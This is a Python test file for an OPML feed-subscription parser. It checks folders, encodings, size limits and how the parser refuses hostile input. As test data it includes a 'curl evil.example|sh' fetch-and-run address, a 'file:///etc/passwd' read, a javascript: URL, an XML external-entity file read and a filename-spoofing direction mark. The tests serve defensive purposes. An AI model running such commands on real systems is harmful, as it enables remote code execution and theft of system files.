"""Lists of subscriptions as other readers write them, whole and damaged."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from listeners.parsing.failures import ParseFailure
from listeners.subscriptions.outlines import LARGEST_LIST, MOST_OUTLINES, SubscriptionList, read_opml
from storage.records.sources import ErrorKind
from tests.shared import SHARED, needs_shared

CORPUS = SHARED / "corpora" / "listparser"
FILES = sorted(CORPUS.rglob("*.xml"))

UNREAD = re.compile(
    r"ownerName|meta'\]\.get|meta'\]\['(?:created|modified|author)|meta\"\]\[\"author|version|bozo|tags"
)
"""What that corpus says of facts we do not keep: dates, owners (with their e-mail address), versions, tags apart."""


def listed(*outlines: str) -> SubscriptionList:
    return read_opml(f'<opml version="2.0"><body>{"".join(outlines)}</body></opml>'.encode())


def feed(address: str = "https://a.example/feed", **facts: str) -> str:
    told = " ".join(f'{name}="{value}"' for name, value in facts.items())
    return f'<outline type="rss" xmlUrl="{address}" {told}/>'


def said(found: SubscriptionList) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(one.location, one.title, one.folders) for one in found.subscriptions]


def test_folders_are_names_the_outermost_first() -> None:
    inner = f'<outline text="Europe"><outline title=" Lyon ">{feed(text="Le Courrier")}</outline></outline>'
    assert said(listed(inner, feed("https://b.example", category="/Press/Local,other"))) == [
        ("https://a.example/feed", "Le Courrier", ("Europe", "Lyon")),
        ("https://b.example", "", ("Press", "Local", "other")),
    ]


def test_one_address_twice_is_one_with_both_folders() -> None:
    twice = listed(f'<outline text="A">{feed()}</outline>', f'<outline text="B">{feed(text="Named")}</outline>')
    assert said(twice) == [("https://a.example/feed", "Named", ("A", "B"))]


@pytest.mark.parametrize(
    "address",
    [
        "exec:curl evil.example|sh",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "filter:x:https://a.example",
        "ftp://a/x",
    ],
)
def test_only_web_addresses_pass(address: str) -> None:
    found = listed(feed(address, text="Innocent"), feed())
    assert [one.location for one in found.subscriptions] == ["https://a.example/feed"]
    (refused,) = found.refused
    assert refused.text == "Innocent"
    assert refused.words.args["scheme"] == address.partition(":")[0]


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("feed://a.example/x", "http://a.example/x"),
        ("feed:https://a.example/x", "https://a.example/x"),
        (" https://a.example/x ", "https://a.example/x"),
    ],
)
def test_an_address_as_readers_write_it(written: str, meant: str) -> None:
    assert [one.location for one in listed(feed(written)).subscriptions] == [meant]


def test_what_is_no_feed_says_what_to_do() -> None:
    found = listed(
        '<outline text="A page" htmlUrl="https://blog.example/"/>',
        '<outline text="Another list" type="include" url="https://x.example/list.opml"/>',
        feed("https://lemmy.example/feeds/inbox/***.xml", text="Inbox"),
        '<outline text="only a heading"/>',
    )
    assert found.subscriptions == ()
    assert [(one.text, one.words.source.split()[0:4]) for one in found.refused] == [
        ("A page", ["This", "line", "names", "a"]),
        ("Another list", ["This", "line", "names", "another"]),
        ("Inbox", ["Its", "secret", "was", "hidden"]),
    ]


def test_a_refused_address_shows_no_secret() -> None:
    (refused,) = listed(feed("gopher://lea:hunter2@a.example/x")).refused
    assert "hunter2" not in refused.text
    (refused,) = listed(feed("gopher://a.example/x", text="https://lea:hunter2@a.example/x")).refused
    assert "hunter2" not in refused.text


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1", "cp1252"])
def test_every_encoding_that_says_its_name(encoding: str) -> None:
    declared = "" if encoding.startswith("utf") else f'<?xml version="1.0" encoding="{encoding}"?>'
    body = f"{declared}<opml><body>{feed(text='Été à Lyon')}</body></opml>".encode(encoding)
    assert read_opml(body).subscriptions[0].title == "Été à Lyon"


def test_letters_that_are_not_what_was_declared_are_read_all_the_same() -> None:
    body = b'<?xml version="1.0" encoding="utf-8"?><opml><body><outline text="\xc9t\xe9" xmlUrl="https://a.example/"/>'
    assert said(read_opml(body)) == [("https://a.example/", "Été", ())]


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"", ErrorKind.EMPTY),
        (b"<html><body>no</body></html>", ErrorKind.NOT_A_FEED),
        (b"<rss><channel/></rss>", ErrorKind.NOT_A_FEED),
        (b"just words", ErrorKind.NOT_A_FEED),
        (b'<!DOCTYPE opml [<!ENTITY a "b">]><opml/>', ErrorKind.BROKEN),
        (b" " * (LARGEST_LIST + 1), ErrorKind.TOO_LARGE),
    ],
)
def test_what_is_no_list_is_refused_in_words(body: bytes, kind: ErrorKind) -> None:
    with pytest.raises(ParseFailure) as failed:
        read_opml(body)
    assert failed.value.kind is kind


def test_no_entity_reaches_for_a_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("hunter2", "utf-8")
    body = f'<!DOCTYPE opml SYSTEM "{secret.as_uri()}"><opml><body>{feed(text="&amp;x;")}</body></opml>'
    assert said(read_opml(body.encode())) == [("https://a.example/feed", "&x;", ())]


def test_depth_and_length_are_bounded() -> None:
    deep = '<outline text="x">' * 5_000 + feed()
    assert len(listed(deep).subscriptions) <= 1
    long = listed(*(feed(f"https://a.example/{number}") for number in range(MOST_OUTLINES + 5)))
    assert len(long.subscriptions) == MOST_OUTLINES
    assert long.refused[-1].words.args == {"most": MOST_OUTLINES}


def test_a_title_is_one_plain_line_without_direction_marks() -> None:
    (one,) = listed(feed(text="a&#10;b &lt;b&gt;c\u202egnp.exe")).subscriptions
    assert one.title == "a b <b>cgnp.exe"


@settings(max_examples=60)
@given(st.one_of(st.binary(max_size=400), st.text(max_size=200).map(lambda text: f"<opml><outline {text}".encode())))
def test_any_bytes_are_read_or_refused(body: bytes) -> None:
    try:
        found = read_opml(body)
    except ParseFailure:
        return
    assert all(one.location.startswith(("http://", "https://")) for one in found.subscriptions)


def _claims(path: Path) -> list[str]:
    return [line for line in re.findall(r"Eval: (.+)", path.read_text("utf-8")) if not UNREAD.search(line)]


@needs_shared
@pytest.mark.parametrize("path", FILES, ids=lambda path: str(path.relative_to(CORPUS)))
def test_the_lists_of_listparser(path: Path) -> None:
    """Each file says in a comment what is to be found in it; what we keep of that must be there."""
    found = read_opml(path.read_bytes())
    lists = [one for one in found.refused if "another list" in one.words.source]
    pages = [one for one in found.refused if "names a page" in one.words.source]
    told = {
        "feeds": [
            {
                "url": one.location,
                "title": one.title,
                "categories": [list(one.folders), *([name] for name in one.folders)],
            }
            for one in found.subscriptions
        ],
        "lists": [{"title": one.text} for one in lists],
        "opportunities": [{"url": one.words.args["page"], "title": one.text} for one in pages],
        "meta": {"title": found.title} if found.title else {},
    }
    for claim in _claims(path):
        if "len(result['feeds'][0]['categories'])" in claim or "['lists'][0]['url']" in claim:
            continue  # categories stay apart there, and we do not fetch other lists
        if "['categories']" in claim and "," in claim and "category" in path.read_text("utf-8"):
            continue  # several categories are one row of names here
        assert eval(claim, {"result": told, "len": len}), claim  # noqa: S307 - the corpus's own assertions


@needs_shared
def test_the_subscriptions_of_feedsmith() -> None:
    found = read_opml((SHARED / "formats" / "feeds" / "feedsmith_subscriptions.opml").read_bytes())
    assert found.title == "Tech Sites"
    assert len(found.subscriptions) == 13
    assert (found.subscriptions[0].location, found.subscriptions[0].title) == (
        "https://www.theverge.com/rss/index.xml",
        "The Verge",
    )
    assert found.refused == ()
